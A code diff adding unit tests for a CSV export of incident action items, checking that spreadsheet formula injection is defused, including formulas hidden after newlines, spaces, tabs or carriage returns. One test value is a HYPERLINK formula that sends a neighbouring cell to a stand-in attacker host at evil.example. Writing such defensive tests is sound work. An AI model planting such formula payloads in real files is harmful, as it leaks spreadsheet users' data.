@@ -94,6 +94,41 @@ describe('actionItemsCsv', () => {
     const [, row] = Papa.parse<string[]>(csv.trimEnd()).data;
     expect(row![0]).toBe(`'=HYPERLINK("http://x")`);
   });
+
+  // Issue 11 point 3: papaparse's own guard does not match a value holding a newline, and a
+  // spreadsheet evaluated these (a cell showed 6, another became a link).
+  it.each([
+    ['a formula followed by a newline', '=2*3\n'],
+    ['a formula on the second line', '\n=1+1'],
+    ['a link formula then a newline', '=HYPERLINK("http://evil.example/leak?"&A2,"Details")\n'],
+    ['a formula after spaces', '   +1+1'],
+    ['a formula on an indented later line', 'Fine title\r\n  @SUM(A1)'],
+    ['a minus formula on a later line', 'ok\n-2+3'],
+    ['a leading tab', '\tcell'],
+    ['a leading carriage return', '\rcell'],
+  ])('defuses %s in every column it can reach', (_name, hostile) => {
+    const csv = actionItemsCsv(
+      [item({ title: hostile, owner: hostile, successMeasure: hostile, trackerUrl: hostile })],
+      { title: hostile, incidentId: '' },
+    );
+    const [, row] = Papa.parse<string[]>(csv.trimEnd()).data;
+    for (const column of [0, 2, 10, 11]) expect(row![column]!.startsWith("'")).toBe(true);
+  });
+
+  it('defuses the description when a success measure puts a formula at the start of a line', () => {
+    const csv = actionItemsCsv([item({ successMeasure: 'Alert fires\n=1+1' })], meeting);
+    const [, row] = Papa.parse<string[]>(csv.trimEnd()).data;
+    expect(row![1]).toMatch(/^'Success measure: Alert fires\n=1\+1\n/);
+  });
+
+  it('leaves ordinary text, including inner signs, as it is', () => {
+    const csv = actionItemsCsv(
+      [item({ title: 'Alert when p99 > 2s - page on-call', owner: 'A+B team' })],
+      meeting,
+    );
+    const [, row] = Papa.parse<string[]>(csv.trimEnd()).data;
+    expect(row!.slice(0, 3)).toEqual(['Alert when p99 > 2s - page on-call', expect.any(String), 'A+B team']);
+  });
 });
 
 describe('actionItemsMarkdown', () => {
